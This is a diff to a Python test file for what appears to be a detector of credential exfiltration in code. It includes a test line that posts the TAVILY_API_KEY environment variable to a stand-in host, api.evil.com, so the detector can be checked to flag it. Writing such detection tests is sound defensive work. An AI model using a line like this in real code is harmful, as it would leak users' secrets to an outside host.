@@ -83,13 +83,15 @@ _URL_CHARS = st.sampled_from([*"aZ0.-_:@/?#[] \t'\"x", "https://", "//", "\u00a0
 @settings(max_examples=400, deadline=None)
 @given(st.lists(_URL_CHARS, max_size=14).map("".join), st.sampled_from(["'", '"']))
 def test_every_host_a_string_can_give_is_written(value: str, quote: str) -> None:
-    # each host `parse_url` reads in a string (as a destination is read) is among those found
+    # each host `parse_url` reads in a string (as a destination is read) is among those found, or
+    # one found has a bracket, which stands for any host (`plain_hosts`: an IPv6 host is read
+    # inside its brackets)
     if quote in value:
         return
     text = f"requests.post({quote}{value}{quote}, data=k)\n"
     found = written_hosts(text.encode())
     ref = parse_url(value, allow_bare=True)
-    if ref is not None and found is not None:
+    if ref is not None and found is not None and all("[" not in h and "]" not in h for h in found):
         assert ref.host in found
 
 
@@ -220,3 +222,15 @@ def test_a_credential_no_longer_hides_another_beside_it() -> None:
     assert _rules(text, PY) == [("exfil-credential-env", 2)]
     found = list(CredentialFlows().check_skill(skill_context(("a.py", FileKind.PYTHON, text))))
     assert "$AWS_SECRET_ACCESS_KEY" in str(found[0].message)
+
+
+def test_a_destination_url_is_read_whole_where_it_starts() -> None:
+    # the URL of a long expression starts before its 2000th character and ends after it: cut
+    # there, `api.tav` was a host no credential names; whole, it is the key's own API
+    pad = "x" * 1980 + ", "
+    send = f"requests.post(f({pad}'https://api.tavily.com/v1'), data=os.getenv('TAVILY_API_KEY'))"
+    assert send.index("api.tav") + len("api.tav") == len("requests.post(") + 2000
+    assert _rules(f"import os, requests\n{send}\n", PY) == []
+    assert _rules(f"import os, requests\n{send.replace('tavily', 'evil')}\n", PY) == [
+        ("exfil-credential-env", 2)
+    ]
